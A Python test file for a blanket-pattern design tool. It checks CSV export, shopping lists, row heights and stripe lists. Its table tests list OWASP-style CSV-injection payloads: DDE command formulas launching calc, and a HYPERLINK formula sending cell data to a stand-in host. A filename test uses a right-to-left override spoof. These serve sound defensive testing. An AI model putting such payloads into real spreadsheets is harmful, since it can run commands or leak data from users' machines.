"""What goes on paper: amounts, tables that run nothing, heights, sides."""

import csv
import io
import itertools
from collections import Counter

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from taking_yarn import YARD, row_taking, striped

from core.booklet.stripes import ticks_of
from core.chart.key import letter_of
from core.design.document import Border, Edging, EndFill, Reckoning, Stripe, Stripes, Yarn
from core.design.edits import set_values
from core.design.spreadsheet import BOM, harmless, table_bytes
from core.editions import pattern_of
from core.fabric.measure import measure_size
from core.palette.neighbours import meetings
from core.paper.colours import NO_NAME, PATTERNS, paper_colours, printable
from core.paper.ruler import MOST_STRIPS, row_tops_mm, ruler_of, strips_of
from core.paper.shopping import shopping_list, shopping_table, shopping_text
from core.paper.speech import said_grams, said_yarn
from core.paper.stripe_list import stripe_lines, stripe_table
from core.pipeline import Pipeline
from core.reading.own import set_own_words
from core.rows.build import build_rows
from core.stripes.sequence import worked_stripes
from core.techedit.edit import draft_line, stamp_for
from core.words.vocabulary import vocabulary
from core.words.write import written_rows


@pytest.fixture(scope="module")
def results(demo):
    return Pipeline().results(demo)


def bordered(demo, yarn=1):
    edging = Edging(bottom=EndFill(yarn=2), border=Border(rounds=2, yarn=yarn))
    return set_values(demo, edging=edging, reckoning=Reckoning(carry_rows=6, spare=0.2))


# --- tables ---------------------------------------------------------------------------------

# OWASP, "CSV Injection": the signs a cell mustn't begin with, and strings given by papers on it
# (from memory: owasp.org/www-community/attacks/CSV_Injection).
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test?x="&A1,"Error")',
    "+1+1",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "  =1+1",
    "\u200b=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text):
    found = harmless(text)
    assert found.startswith("'") and text.replace("'", "") == found.replace("'", "")
    for split in ",;\t":  # as a spreadsheet of another country would cut it
        for part in found.split(split):
            assert part.strip(' "\u200b')[:1] not in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def test_a_formula_behind_a_separator_is_disarmed_too():
    assert harmless("Sea;=1+1") == "Sea;'=1+1"
    assert harmless('Sea","=1+1') == 'Sea","\'=1+1'


@pytest.mark.parametrize(
    "text", ["Sea", "Sea-green", "Blue + white", "a=b", "me@sea", "Θάλασσα", ""]
)
def test_plain_names_stay_as_they_are(text):
    assert harmless(text) == text


def by_the_grammar(text):
    """Read a table by RFC 4180's grammar and nothing else."""
    lines, at = [[]], 0
    while at < len(text):
        if text[at] == '"':
            value, at = "", at + 1
            while text[at] != '"' or text[at : at + 2] == '""':
                value += text[at]
                at += 2 if text[at] == '"' else 1
            at += 1
        else:
            end = at
            while end < len(text) and text[end] not in ",\r":
                assert text[end] not in '"\n'
                end += 1
            value, at = text[at:end], end
        lines[-1].append(value)
        if text[at : at + 1] == ",":
            at += 1
            continue
        assert text[at : at + 2] == "\r\n"
        at += 2
        if at < len(text):
            lines.append([])
    return lines


def test_three_readers_find_the_same_table():
    names = (*FORMULAS, 'two "quotes"', "a, b", "line\nbreak", "深い海", "")
    data = table_bytes(["Name", "Length (m)"], [[name, 1.5] for name in names])
    text = data.decode("utf-8")
    assert text.startswith(BOM) and text.endswith("\r\n")
    text = text.removeprefix(BOM)
    wanted = [["Name", "Length (m)"], *([harmless(name), "1.5"] for name in names)]
    assert list(csv.reader(io.StringIO(text, newline=""))) == wanted
    assert by_the_grammar(text) == wanted
    safe = table_bytes(["Name", "n"], [['two "quotes", a'.replace('"', "'"), 2], ["a, b", 3]])
    lines = safe.decode("utf-8-sig").splitlines()
    table = np.loadtxt(lines, delimiter=",", quotechar='"', dtype=str)
    assert table.tolist() == [["Name", "n"], ["two 'quotes', a", "2"], ["a, b", "3"]]


def test_numbers_stay_numbers_and_words_are_quoted():
    text = table_bytes(["a", "b"], [["x", 2.5], [None, -3]]).decode("utf-8-sig")
    assert text == '"a","b"\r\n"x",2.5\r\n"",-3\r\n'
    with pytest.raises(ValueError, match="as many cells"):
        table_bytes(["a", "b"], [["x"]])


# --- names ----------------------------------------------------------------------------------


def test_signs_that_turn_words_about_are_left_out():
    assert printable("\u202egnp.exe") == "gnp.exe"
    assert printable("  two\u00a0 words ") == "two words"
    assert printable("\u200b\u2066") == NO_NAME
    assert printable("नी\u200dला") == "नी\u200dला"


# --- colours --------------------------------------------------------------------------------


def test_colours_stand_in_the_order_of_the_stripes_with_the_charts_letters(results):
    colours = paper_colours(results)
    order = list(dict.fromkeys(results.yarn_of_row.tolist()))
    assert [colour.yarn for colour in colours] == order
    assert [colour.letter for colour in colours] == [chr(ord("A") + yarn) for yarn in order]
    assert sorted(n for c in colours for n in c.stripes) == list(
        range(1, len(results.yarn_ends.yarn) + 1)
    )


@given(st.lists(st.integers(0, 8), min_size=2, max_size=30))
def test_neighbours_have_different_patterns(order):
    from core.paper.colours import _patterns

    stripes = Stripes(tuple(Stripe(yarn, 1) for yarn in order))
    met = list(meetings(worked_stripes(stripes, len(order))))
    found = _patterns(list(dict.fromkeys(order)), met)
    assert all(found[m.one] != found[m.other] for m in met)
    assert set(found.values()) <= set(PATTERNS)


def test_where_more_than_nine_all_meet_patterns_are_shared_and_letters_differ():
    from core.paper.colours import _patterns

    pairs = [n for one in range(11) for other in range(one) for n in (one, other)]
    met = list(meetings(worked_stripes(Stripes(tuple(Stripe(n, 1) for n in pairs)), len(pairs))))
    found = _patterns(range(11), met)
    both = {frozenset((m.one, m.other)) for m in met}
    assert all(frozenset(pair) in both for pair in itertools.combinations(range(11), 2))
    assert sorted(Counter(found.values()).values()) == [1] * 7 + [2] * 2
    assert len({letter_of(yarn) for yarn in found}) == 11


# --- the shopping list ----------------------------------------------------------------------


def test_the_lines_of_a_colour_come_to_its_sum(demo):
    results = Pipeline().results(bordered(demo))
    shopping = shopping_list(results)
    for wanted in shopping.wanted:
        assert sum(metres for _, metres in wanted.parts) == pytest.approx(wanted.use.length_m)
        have = (wanted.use.balls) * wanted.ball_m
        assert have >= wanted.use.length_m > have - wanted.ball_m
    named = {name for wanted in shopping.wanted for name, _ in wanted.parts}
    assert {"Rows", "Foundation chain", "Border", "Fill rows", "Spare (20 %)"} <= named
    (border,) = [w for w in shopping.wanted if w.colour.yarn == 1]
    assert dict(border.parts)["Border"] == pytest.approx(results.yarn[1].border_m)


def test_the_published_example_comes_out_line_by_line(plain_cloth):
    # ravelry.com/patterns/library/ripple-ridge-afghan: 16 points at 1.25 yd are 20 yd a row. Times
    # 0.9144 m and 20, 48, 72 and 96 rows: 366, 878, 1,317 and 1,756 m.
    design = striped(row_taking(plain_cloth, 20 * YARD), (0, 20), (1, 48), (2, 72), (3, 96))
    text = shopping_text(shopping_list(Pipeline().results(design)))
    rows = [line.strip() for line in text.splitlines() if line.strip().startswith("Rows: ")]
    assert rows == ["Rows: 366 m", "Rows: 878 m", "Rows: 1,317 m", "Rows: 1,756 m"]
    assert "Dye lot" in text and "go by length" in text and "one dye lot" in text


def test_the_table_sums_up_and_reads_back(demo):
    results = Pipeline().results(bordered(demo))
    lines = by_the_grammar(shopping_table(shopping_list(results)).decode("utf-8-sig"))
    head, *body = lines
    at = head.index("All (m)")
    parts = slice(head.index("Rows (m)"), at)
    for line in body:
        assert sum(map(float, line[parts])) == pytest.approx(float(line[at]), abs=0.4)
    assert float(body[-1][at]) == pytest.approx(sum(use.length_m for use in results.yarn), abs=0.1)
    assert [line[head.index("Balls to have")] for line in body[:-1]] == [
        str(results.yarn[c.yarn].balls) for c in paper_colours(results)
    ]


def test_yards_where_the_design_has_inches(demo):
    results = Pipeline().results(set_values(demo, units="in"))
    text = shopping_text(shopping_list(results))
    assert " yd" in text and " m," not in text
    assert "All (yd)" in shopping_table(shopping_list(results)).decode()


def test_unused_yarns_are_named_and_not_bought(demo):
    extra = Yarn(name="Never", colour="#123456", ball_m=100, ball_g=50)
    shopping = shopping_list(Pipeline().results(replace(demo, yarns=(*demo.yarns, extra))))
    assert shopping.unused == ("Never",)
    assert "Never" not in [wanted.colour.name for wanted in shopping.wanted]


def test_cautions_follow_use_and_fibre(demo):
    yarns = (replace(demo.yarns[0], name="Mohair mist"), *demo.yarns[1:])
    lap = shopping_list(Pipeline().results(replace(demo, yarns=yarns, use="throw")))
    baby = shopping_list(Pipeline().results(replace(demo, yarns=yarns, use="baby")))
    assert not any("sleep" in caution for caution in lap.cautions)
    assert any("safe-sleep" in caution for caution in baby.cautions)
    assert any("felt, shrink" in caution for caution in lap.cautions)
    assert any("breathed in" in caution for caution in baby.cautions)
    assert [w.fibre for w in baby.wanted if w.colour.yarn == 0] == ["Mohair"]


def test_a_design_that_cant_be_worked_says_so(demo):
    wave = replace(demo.wave, end=demo.wave.end[:-1])
    results = Pipeline().results(replace(demo, wave=wave))
    assert shopping_list(results).trouble.startswith("DRAFT: ")
    assert shopping_list(results).trouble in shopping_text(shopping_list(results))


def test_a_draft_is_one_on_paper_too(demo):
    """Own words that don't come out stamp the chart; sheets that go with it say so as well."""
    line = next(ln for ln in written_rows(demo, build_rows(demo)) if ln.row == 2)
    wrong = set_own_words(demo, 2, line.text.replace(" sts)", "9 sts)"))
    results = Pipeline().results(wrong)
    assert stamp_for(results) and shopping_list(results).trouble.startswith(draft_line(results))
    assert not shopping_list(Pipeline().results(demo)).trouble


@pytest.mark.parametrize("units", ["cm", "in"])
def test_the_booklet_asks_for_the_same_yarn_as_the_shopping_list(demo, units):
    results = Pipeline().results(set_values(bordered(demo), units=units))
    (materials,) = [s for s in pattern_of(results).sections if s.name == "materials"]
    lines = {block.label: block.text for block in materials.blocks}
    for wanted in shopping_list(results).wanted:
        text, use = lines[wanted.colour.name], wanted.use
        said = said_yarn(use.length_m, units).replace(",", "")
        assert said in text and said_grams(use.mass_g).replace(",", "") in text
        assert f"{use.balls} ball" in text
    totals = shopping_list(results).totals
    assert said_yarn(totals.length_m, units).replace(",", "") in materials.plain


def test_a_length_that_rounds_to_ten_has_no_decimal():
    assert said_yarn(9.94, "cm") == "9.9 m" and said_yarn(9.96, "cm") == "10 m"
    assert said_yarn(1234.4, "cm") == "1,234 m" and said_yarn(4.2, "in") == "4.6 yd"


# --- heights --------------------------------------------------------------------------------


def test_the_last_row_lies_at_the_blankets_length_as_worked(results):
    tops = row_tops_mm(results)
    assert len(tops) == results.rows.drawn_rows + 1 and tops[0] == 0
    assert tops[-1] == pytest.approx(measure_size(results.fabric).length_mm, rel=1e-6)
    assert (np.diff(tops) > 0).all()


def test_the_heights_are_those_midway_between_a_peak_and_a_dip(demo):
    """What the directions tell to lay the ruler by: within 2 mm of nearly a metre and a half."""
    results = Pipeline().settled_results(demo)
    fabric, wave = results.fabric, results.wave
    row = fabric.row_tops_mm(fabric.n_rows // 2)
    near = row[np.abs(row[:, 0] - row[:, 0].mean()) < wave.repeat_width_mm]
    midway = near[near[:, 1].argmax(), 0] + wave.repeat_width_mm / 4

    def height(number):
        tops = fabric.row_tops_mm(number)
        tops = tops[np.argsort(tops[:, 0])]
        return np.interp(midway, tops[:, 0], tops[:, 1])

    found = np.array([height(number) - height(0) for number in range(fabric.n_rows + 1)])
    assert found == pytest.approx(row_tops_mm(results), abs=2.0)


def test_a_firmer_hand_and_other_stitches_change_the_ruler(demo):
    rows = row_tops_mm(Pipeline().results(demo))
    other = replace(demo, gauge=replace(demo.gauge, rows=demo.gauge.rows * 0.8))
    assert row_tops_mm(Pipeline().results(other))[-1] > 1.1 * rows[-1]


@given(
    st.lists(st.floats(0.02, 400), min_size=1, max_size=60),
    st.floats(60, 300),
)
def test_strips_hold_every_millimetre_once(heights, room):
    tops = np.concatenate([[0.0], np.cumsum(heights)])
    strips = strips_of(tops, room)
    assert strips[0].bottom_mm == 0
    assert all(low.top_mm == high.bottom_mm for low, high in itertools.pairwise(strips))
    assert all(0 < strip.height_mm <= room + 1e-6 for strip in strips)
    if len(strips) < MOST_STRIPS:
        assert strips[-1].top_mm == pytest.approx(tops[-1], abs=0.01)
    for strip in strips[:-1]:  # cut between rows, unless much would be lost
        between = np.isclose(tops, strip.top_mm).any()
        assert between or strip.height_mm == pytest.approx(room)


def test_a_strip_ends_between_rows_where_at_least_half_of_it_is_used():
    ends = [strip.top_mm for strip in strips_of(np.array([0.0, 60.0, 120.0, 180.0]), 100.0)]
    assert ends == [60, 120, 180]
    ends = [strip.top_mm for strip in strips_of(np.array([0.0, 40.0, 180.0]), 100.0)]
    assert ends == [100, 180]


def test_a_ruler_of_kilometres_ends_and_says_so():
    tops = np.linspace(0, 1e7, 5001)
    assert len(strips_of(tops, 200.0)) == MOST_STRIPS


def test_stopping_places_on_the_ruler_are_better_than_a_stripes_end(results):
    ruler = ruler_of(results, 230)
    assert ruler.is_whole and ruler.stops
    assert all(set(stop.why) & {"mirror", "sequence", "match"} for stop in ruler.stops)


# --- stripes --------------------------------------------------------------------------------


@pytest.mark.parametrize("hand", ["right", "left"])
@pytest.mark.parametrize("carry", [0, 4])
def test_tails_fall_where_the_ends_are_counted(demo, hand, carry):
    design = set_values(demo, hand=hand, reckoning=Reckoning(carry_rows=carry))
    results = Pipeline().results(design)
    lines = stripe_lines(results)
    sides = [side for line in lines for side in (line.starts, line.stops) if side]
    assert (sides.count("left"), sides.count("right")) == results.yarn_ends.sides()
    ends = [
        ("left" if end.at_left else "right", end.is_start, end.row)
        for end in results.yarn_ends.ends()
    ]
    mine = [
        (side, is_start, line.first - 1 if is_start else line.last)
        for line in lines
        for side, is_start in ((line.starts, True), (line.stops, False))
        if side
    ]
    assert mine == ends


def test_the_stripe_table_runs_through_all_rows(results):
    head, *body = by_the_grammar(stripe_table(results).decode("utf-8-sig"))
    first, last, far = (head.index(name) for name in ("First row", "Last row", "Rows so far"))
    row = 1
    for line in body:
        assert int(line[first]) == row
        row = int(line[last]) + 1
        assert line[far] == line[last]
    assert row - 1 == results.rows.drawn_rows


def test_a_stripes_own_name_stands_in_the_list(demo):
    sequence = (replace(demo.stripes.sequence[0], label="Mum's birthday"),)
    stripes = Stripes((*sequence, *demo.stripes.sequence[1:]), demo.stripes.fill)
    lines = stripe_lines(Pipeline().results(replace(demo, stripes=stripes)))
    assert lines[0].label == "Mum's birthday"


def test_stripes_have_the_numbers_of_the_booklet(demo):
    """Two neighbours in one yarn that are called differently are two stripes, on paper as there."""
    one, *rest = demo.stripes.sequence
    sequence = (replace(one, label="First year"), replace(one, label="Second year"), *rest)
    results = Pipeline().results(replace(demo, stripes=Stripes(sequence, demo.stripes.fill)))
    lines = stripe_lines(results)
    ticks = ticks_of(results, vocabulary("US"))
    assert [(t.number, t.yarn, t.first, t.last, t.letter) for t in ticks] == [
        (n.number, n.colour.yarn, n.first, n.last, n.colour.letter) for n in lines
    ]
    assert [line.label for line in lines[:2]] == ["First year", "Second year"]
    assert lines[0].stops == lines[1].starts == "" and lines[0].last_tail == "goes on"
    assert len(lines) > len(results.yarn_ends.yarn)  # the sequence comes again
    by_yarn = {colour.yarn: colour.stripes for colour in paper_colours(results)}
    assert all(line.number in by_yarn[line.colour.yarn] for line in lines)


@pytest.mark.parametrize(("hand", "edge"), [("right", "right"), ("left", "left")])
def test_a_yarn_that_is_carried_is_taken_up_where_the_row_ends(demo, hand, edge):
    """Row 1 runs from right to left in a right hand, so even rows end where they set out."""
    pairs = Stripes((Stripe(0, 2), Stripe(1, 2)), demo.stripes.fill)
    design = set_values(demo, hand=hand, reckoning=Reckoning(carry_rows=2), stripes=pairs)
    lines = stripe_lines(Pipeline().results(design))
    assert not lines[3].starts and not lines[2].stops  # carried on both sides of the change
    assert {line.ends for line in lines} == {edge}
